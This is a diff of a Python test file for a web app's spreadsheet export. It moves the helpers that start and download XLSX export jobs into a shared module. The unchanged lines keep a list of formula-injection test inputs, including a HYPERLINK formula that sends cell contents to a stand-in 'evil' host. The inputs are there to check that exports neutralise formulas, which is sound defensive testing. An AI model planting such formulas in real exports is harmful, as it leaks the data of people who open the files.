@@ -9,7 +9,7 @@ import pytest
 from sqlalchemy import select
 
 from tests.double_review_data import double, mark, team
-from tests.exports.helpers import signed_in
+from tests.exports.helpers import download_xlsx, signed_in, start_xlsx
 from tests.factories import add_member, make_article, make_claim, make_project, make_user
 from webapp.exports.rows import COLUMNS
 from webapp.extensions import db
@@ -20,22 +20,6 @@ from webapp.models import Job
 TRIGGERS = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "a,=1+1", '"=1+1"',
             '=HYPERLINK("http://evil/?"&A1)', "http://example.org/x", "0042", "1e5"]
 DANGEROUS = tuple("=+-@\t\r\n")
-
-
-def _start_xlsx(browser, project_id, **filters):
-    form = f"/projects/{project_id}/export/"
-    response = browser.post(f"/projects/{project_id}/export/xlsx", filters, form_url=form)
-    assert response.status_code == 303 and "/jobs/" in response.headers["Location"]
-    return response.headers["Location"]
-
-
-def _download(browser, job_url):
-    page = browser.get(job_url).get_data(as_text=True)
-    assert "Done." in page
-    link = re.search(r'href="([^"]+/download)"', page).group(1)
-    response = browser.get(link)
-    assert response.status_code == 200
-    return response
 
 
 @pytest.fixture
@@ -61,7 +45,7 @@ def hostile(app):
 
 def test_xlsx_cells_are_strings_and_no_formula_exists(app, browser, hostile):
     browser = signed_in(browser)
-    response = _download(browser, _start_xlsx(browser, hostile))
+    response = download_xlsx(browser, start_xlsx(browser, hostile))
     assert response.headers["Content-Type"] == \
         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
     assert response.headers["Content-Disposition"].startswith("attachment;")
@@ -114,12 +98,12 @@ def test_the_xlsx_job_follows_filters_and_the_askers_view(app, browser):
         project_id = project.id
     anna_browser = signed_in(browser, "anna")
     sheet = openpyxl.load_workbook(io.BytesIO(
-        _download(anna_browser, _start_xlsx(anna_browser, project_id)).data)).active
+        download_xlsx(anna_browser, start_xlsx(anna_browser, project_id)).data)).active
     assert [r[COLUMNS.index("statement")] for r in sheet.iter_rows(min_row=2, values_only=True)] \
         == ["ANNA-CLAIM"]
     lena_browser = signed_in(type(browser)(app.test_client()), "lena")
-    job_url = _start_xlsx(lena_browser, project_id, status="unverifiable")
-    sheet = openpyxl.load_workbook(io.BytesIO(_download(lena_browser, job_url).data)).active
+    job_url = start_xlsx(lena_browser, project_id, status="unverifiable")
+    sheet = openpyxl.load_workbook(io.BytesIO(download_xlsx(lena_browser, job_url).data)).active
     assert [r[COLUMNS.index("statement")] for r in sheet.iter_rows(min_row=2, values_only=True)] \
         == ["OMAR-CLAIM"]
     with app.app_context():
